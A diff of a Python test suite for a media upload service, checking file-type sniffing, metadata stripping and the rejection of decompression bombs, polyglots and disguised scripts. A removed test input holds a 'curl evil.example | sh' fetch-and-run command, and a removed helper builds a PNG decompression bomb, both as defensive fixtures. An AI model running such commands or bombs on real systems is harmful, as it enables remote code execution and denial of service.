@@ -1,109 +1,110 @@
-"""The media domain: type by content, metadata stripping, and every rejection rule."""
+"""The media domain: type by content, metadata stripping, variants, and every rejection rule."""
 
 from __future__ import annotations
 
 import io
-import struct
-import zlib
+import zipfile
 
 import pytest
-from PIL import ExifTags, Image
+from PIL import ExifTags, Image, ImageCms
 
-from services.media.schemas import ContentType, Rejection
-from services.media.service import MediaRejected, clean_upload, sniff
+from services.media.schemas import ContentType, GeoPoint, Rejection, Variant
+from services.media.service import Limits, MediaRejected, clean_upload, sniff
 from services.media.settings import s3_bucket_name
+from tests import test_media_corpus as corpus
 
-LIMITS = {"max_bytes": 10 * 1024 * 1024, "max_pixels": 40_000_000}
-
-
-def gps_exif(orientation: int = 1) -> Image.Exif:
-    exif = Image.Exif()
-    exif[ExifTags.Base.Make] = "PhoneMaker"
-    exif[ExifTags.Base.Model] = "Phone 9"
-    exif[ExifTags.Base.Orientation] = orientation
-    exif[ExifTags.Base.GPSInfo] = {
-        ExifTags.GPS.GPSLatitudeRef: "N",
-        ExifTags.GPS.GPSLatitude: (55.0, 45.0, 21.0),
-        ExifTags.GPS.GPSLongitudeRef: "E",
-        ExifTags.GPS.GPSLongitude: (37.0, 37.0, 4.0),
-    }
-    return exif
+LIMITS = Limits(max_bytes=10 * 1024 * 1024, max_pixels=40_000_000)
 
 
-def jpeg_with_gps(size: tuple[int, int] = (64, 32), orientation: int = 1) -> bytes:
-    out = io.BytesIO()
-    image = Image.new("RGB", size, (200, 30, 30))
-    image.save(out, "JPEG", exif=gps_exif(orientation), xmp=b"<x:xmpmeta>secret place</x:xmpmeta>")
-    return out.getvalue()
-
-
-def encoded(fmt: str, size: tuple[int, int] = (16, 16), mode: str = "RGB", **options: object) -> bytes:
-    out = io.BytesIO()
-    Image.new(mode, size).save(out, fmt, **options)
-    return out.getvalue()
-
-
-def png_header_only(width: int, height: int) -> bytes:
-    """A tiny PNG whose header promises a gigantic picture: a decompression bomb."""
-
-    def chunk(kind: bytes, data: bytes) -> bytes:
-        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
-
-    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
-    idat = zlib.compress(b"\x00" * 1024)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
-
-
-def rejected(raw: bytes, **limits: int) -> MediaRejected:
+def rejected(raw: bytes, limits: Limits = LIMITS) -> MediaRejected:
     with pytest.raises(MediaRejected) as caught:
-        clean_upload(raw, **{**LIMITS, **limits})
+        clean_upload(raw, limits)
     return caught.value
+
+
+def opened(data: bytes | None) -> Image.Image:
+    assert data is not None
+    image = Image.open(io.BytesIO(data))
+    image.load()
+    return image
 
 
 @pytest.mark.parametrize(
     ("raw", "expected"),
     [
-        (encoded("JPEG"), ContentType.JPEG),
-        (encoded("PNG"), ContentType.PNG),
-        (encoded("WEBP"), ContentType.WEBP),
+        (corpus.encoded("JPEG"), ContentType.JPEG),
+        (corpus.encoded("PNG"), ContentType.PNG),
+        (corpus.encoded("WEBP"), ContentType.WEBP),
         (b"%PDF-1.7\n...", ContentType.PDF),
-        (b"GIF89a....", None),
-        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", None),
-        (b"#!/bin/sh\necho hi\n", None),
+        (corpus.video(), ContentType.MP4),
+        (corpus.video(brand=b"qt  "), ContentType.QUICKTIME),
+        (corpus.video(brand=b"XAVC"), ContentType.MP4),  # compatible brand mp41
+        (corpus.heic(), None),
+        (corpus.GIF, None),
+        (corpus.SVG, None),
+        (corpus.SCRIPT_AS_JPG, None),
+        (corpus.EXECUTABLE, None),
         (b"", None),
     ],
 )
 def test_sniff_decides_by_magic_bytes(raw: bytes, expected: ContentType | None) -> None:
-    assert sniff(raw[:16]) == expected
+    assert sniff(raw[:64]) == expected
 
 
-def test_jpeg_loses_exif_gps_and_xmp() -> None:
-    raw = jpeg_with_gps()
-    with Image.open(io.BytesIO(raw)) as original:
-        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the fixture really carries GPS
-        assert "xmp" in original.info
-
-    clean = clean_upload(raw, **LIMITS)
+def test_phone_photo_loses_exif_gps_and_xmp_but_its_place_becomes_a_hint() -> None:
+    clean = clean_upload(corpus.phone_photo(), LIMITS)
 
     assert clean.content_type is ContentType.JPEG
-    assert b"PhoneMaker" not in clean.data
-    assert b"secret place" not in clean.data
-    with Image.open(io.BytesIO(clean.data)) as stored:
-        assert stored.format == "JPEG"
-        assert len(stored.getexif()) == 0
-        assert not stored.getexif().get_ifd(ExifTags.IFD.GPSInfo)
-        assert "exif" not in stored.info
-        assert "xmp" not in stored.info
-        assert stored.size == (64, 32)
+    assert clean.location_hint == GeoPoint(lat=corpus.GPS_LAT, lon=corpus.GPS_LON)
+    for rendition in clean.renditions:
+        assert rendition.data is not None
+        assert b"PhoneMaker" not in rendition.data
+        assert b"secret place" not in rendition.data
+        with opened(rendition.data) as stored:
+            assert len(stored.getexif()) == 0
+            assert not {"exif", "xmp", "icc_profile"} & set(stored.info)
 
 
-def test_exif_orientation_is_applied_to_the_pixels() -> None:
-    clean = clean_upload(jpeg_with_gps(size=(64, 32), orientation=6), **LIMITS)  # 6 = rotate 90° CW
+def test_orientation_is_applied_and_variants_are_made() -> None:
+    clean = clean_upload(corpus.phone_photo((2400, 1200), orientation=6), LIMITS)  # 6: rotate 90° CW
 
-    assert (clean.width, clean.height) == (32, 64)
-    with Image.open(io.BytesIO(clean.data)) as stored:
-        assert stored.size == (32, 64)
-        assert ExifTags.Base.Orientation not in stored.getexif()
+    sizes = {r.variant: (r.width, r.height) for r in clean.renditions}
+    assert sizes == {Variant.ORIGINAL: (1200, 2400), Variant.WEB: (800, 1600), Variant.THUMB: (128, 256)}
+    assert (clean.width, clean.height) == (1200, 2400)
+    for rendition in clean.renditions:
+        assert rendition.content_type is ContentType.JPEG
+        with opened(rendition.data) as stored:
+            assert stored.size == (rendition.width, rendition.height)
+            assert stored.format == "JPEG"
+
+
+def test_small_pictures_are_not_enlarged() -> None:
+    clean = clean_upload(corpus.encoded("JPEG", (100, 50)), LIMITS)
+
+    assert {(r.width, r.height) for r in clean.renditions} == {(100, 50)}
+
+
+def test_a_polyglot_loses_everything_after_the_picture() -> None:
+    raw = corpus.polyglot_jpeg()
+
+    clean = clean_upload(raw, LIMITS)
+
+    assert clean.data is not None
+    assert b"PK\x03\x04" not in clean.data
+    assert b"<script" not in clean.data
+    assert not zipfile.is_zipfile(io.BytesIO(clean.data))
+    with opened(clean.data) as stored:
+        assert stored.size == (64, 48)
+
+
+def test_colour_profiles_are_converted_not_kept() -> None:
+    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes()
+    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
+    for icc in (srgb, b"not a profile, maybe a payload" * 10, profile):
+        clean = clean_upload(corpus.encoded("JPEG", (32, 32), icc_profile=icc), LIMITS)
+        with opened(clean.data) as stored:
+            assert "icc_profile" not in stored.info
+            assert stored.mode == "RGB"
 
 
 def test_png_text_and_exif_chunks_are_dropped_but_transparency_kept() -> None:
@@ -111,41 +112,49 @@ def test_png_text_and_exif_chunks_are_dropped_but_transparency_kept() -> None:
 
     text = PngInfo()
     text.add_text("Comment", "taken at my home address")
-    image = Image.new("RGBA", (8, 8), (0, 0, 0, 0))
     out = io.BytesIO()
-    image.save(out, "PNG", pnginfo=text, exif=gps_exif())
+    Image.new("RGBA", (8, 8), (0, 0, 0, 0)).save(out, "PNG", pnginfo=text, exif=corpus.gps_exif())
 
-    clean = clean_upload(out.getvalue(), **LIMITS)
+    clean = clean_upload(out.getvalue(), LIMITS)
 
-    assert b"home address" not in clean.data
-    assert b"PhoneMaker" not in clean.data
-    with Image.open(io.BytesIO(clean.data)) as stored:
-        assert stored.mode == "RGBA"
-        assert stored.getpixel((0, 0)) == (0, 0, 0, 0)
-        assert not stored.text
-        assert "exif" not in stored.info
+    assert clean.location_hint is not None  # PNG eXIf chunks carry GPS too
+    for rendition in clean.renditions:
+        assert rendition.data is not None
+        assert b"home address" not in rendition.data
+        assert b"PhoneMaker" not in rendition.data
+        assert rendition.content_type is ContentType.PNG  # transparency: PNG variants too
+        with opened(rendition.data) as stored:
+            assert stored.mode == "RGBA"
+            assert stored.getpixel((0, 0)) == (0, 0, 0, 0)
+            assert "exif" not in stored.info
 
 
 def test_webp_is_accepted_and_reencoded() -> None:
-    clean = clean_upload(encoded("WEBP", size=(20, 10), exif=gps_exif()), **LIMITS)
+    clean = clean_upload(corpus.encoded("WEBP", size=(20, 10), exif=corpus.gps_exif()), LIMITS)
 
     assert clean.content_type is ContentType.WEBP
     assert (clean.width, clean.height) == (20, 10)
-    with Image.open(io.BytesIO(clean.data)) as stored:
+    with opened(clean.data) as stored:
         assert "exif" not in stored.info
 
 
-def test_png_decompression_bomb_is_rejected_before_decoding() -> None:
-    bomb = png_header_only(100_000, 100_000)
-    assert len(bomb) < 200
-
-    assert rejected(bomb).reason is Rejection.TOO_MANY_PIXELS
+@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
+@pytest.mark.parametrize(
+    "raw",
+    [
+        pytest.param(corpus.png_bomb(), id="png-bomb-144mp"),
+        pytest.param(corpus.png_header_only(100_000, 100_000), id="png-header-10gp"),
+        pytest.param(corpus.jpeg_declaring(60_000, 60_000), id="jpeg-header-3.6gp"),
+    ],
+)
+def test_decompression_bombs_are_rejected_before_decoding(raw: bytes) -> None:
+    assert rejected(raw).reason is Rejection.TOO_MANY_PIXELS
 
 
 def test_image_over_the_configured_pixel_limit_is_rejected() -> None:
-    raw = encoded("PNG", size=(3000, 3000), mode="1")  # 9 MP of nothing compresses to a few KB
+    raw = corpus.encoded("PNG", size=(3000, 3000), mode="1")
 
-    problem = rejected(raw, max_pixels=1_000_000)
+    problem = rejected(raw, Limits(max_bytes=LIMITS.max_bytes, max_pixels=1_000_000))
 
     assert problem.reason is Rejection.TOO_MANY_PIXELS
     assert "3000x3000" in problem.detail
@@ -154,22 +163,28 @@ def test_image_over_the_configured_pixel_limit_is_rejected() -> None:
 
 @pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
 def test_truncated_image_is_rejected(fmt: str) -> None:
-    out = io.BytesIO()
-    Image.effect_noise((128, 128), 64).convert("RGB").save(out, fmt)
-    raw = out.getvalue()
-
-    assert rejected(raw[: len(raw) // 2]).reason is Rejection.CORRUPT
+    assert rejected(corpus.truncated(fmt)).reason is Rejection.CORRUPT
 
 
 def test_magic_bytes_without_a_real_image_are_rejected() -> None:
     assert rejected(b"\xff\xd8\xff\xe0" + b"not really a jpeg" * 10).reason is Rejection.CORRUPT
 
 
-def test_a_script_is_unsupported_whatever_its_name() -> None:
-    problem = rejected(b"#!/bin/sh\ncurl evil.example | sh\n")  # e.g. uploaded as holiday.jpg
+@pytest.mark.parametrize(
+    "raw", [corpus.SCRIPT_AS_JPG, corpus.HTML_AS_JPG, corpus.SVG, corpus.GIF, corpus.EXECUTABLE]
+)
+def test_other_content_is_unsupported_whatever_its_name(raw: bytes) -> None:
+    problem = rejected(raw)
 
     assert problem.reason is Rejection.UNSUPPORTED_TYPE
     assert "content" in problem.detail
+
+
+def test_heic_is_refused_with_advice() -> None:
+    problem = rejected(corpus.heic())
+
+    assert problem.reason is Rejection.UNSUPPORTED_TYPE
+    assert "HEIC" in problem.detail
 
 
 def test_zero_bytes_are_rejected() -> None:
@@ -177,18 +192,60 @@ def test_zero_bytes_are_rejected() -> None:
 
 
 def test_too_many_bytes_are_rejected() -> None:
-    assert rejected(encoded("PNG"), max_bytes=10).reason is Rejection.TOO_LARGE
+    assert rejected(corpus.encoded("PNG"), Limits(max_bytes=10, max_pixels=100)).reason is Rejection.TOO_LARGE
+
+
+def test_gps_hint_signs_and_nonsense() -> None:
+    from services.media.images import gps_hint
+
+    def hint(gps: dict[int, object]) -> GeoPoint | None:
+        exif = Image.Exif()
+        exif[ExifTags.Base.GPSInfo] = gps
+        out = io.BytesIO()
+        Image.new("RGB", (4, 4)).save(out, "JPEG", exif=exif)
+        with Image.open(io.BytesIO(out.getvalue())) as image:
+            return gps_hint(image)
+
+    south_west = {1: "S", 2: (33.0, 52.0, 4.0), 3: "W", 4: (151.0, 12.0, 36.0)}
+    assert hint(south_west) == GeoPoint(lat=-33.867778, lon=-151.21)
+    assert hint({1: "N", 2: (0.0, 0.0, 0.0), 3: "E", 4: (0.0, 0.0, 0.0)}) is None  # no fix
+    assert hint({1: "N", 2: (95.0, 0.0, 0.0), 3: "E", 4: (10.0, 0.0, 0.0)}) is None  # not on Earth
+    assert hint({1: "N", 2: (55.0, 45.0, 21.0)}) is None  # half a position
 
 
 def test_pdf_is_kept_as_is_but_must_be_complete() -> None:
-    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
+    document = corpus.pdf()
 
-    clean = clean_upload(pdf, **LIMITS)
+    clean = clean_upload(document, LIMITS)
 
     assert clean.content_type is ContentType.PDF
-    assert clean.data == pdf
-    assert clean.width is None
-    assert rejected(pdf[:20]).reason is Rejection.CORRUPT
+    assert [r.variant for r in clean.renditions] == [Variant.ORIGINAL]
+    assert clean.data is None  # stored from the upload itself
+    assert clean.size == len(document)
+    assert rejected(document[:40]).reason is Rejection.CORRUPT
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        pytest.param(corpus.pdf() + corpus.zip_archive(), id="zip-appended"),
+        pytest.param(corpus.pdf() + corpus.HTML, id="html-appended"),
+        pytest.param(b"%PDF-9.9\n" + corpus.pdf()[9:], id="bad-version"),
+    ],
+)
+def test_pdf_with_something_appended_or_a_bad_header_is_refused(raw: bytes) -> None:
+    assert rejected(raw).reason is Rejection.CORRUPT
+
+
+def test_pdf_with_javascript_is_refused_even_when_escaped() -> None:
+    problem = rejected(corpus.pdf_with_javascript())
+
+    assert problem.reason is Rejection.ACTIVE_CONTENT
+    assert "/J" in problem.detail
+
+
+def test_pdf_stream_data_is_not_mistaken_for_active_content() -> None:
+    assert clean_upload(corpus.pdf_with_binary_stream(), LIMITS).content_type is ContentType.PDF
 
 
 @pytest.mark.parametrize(
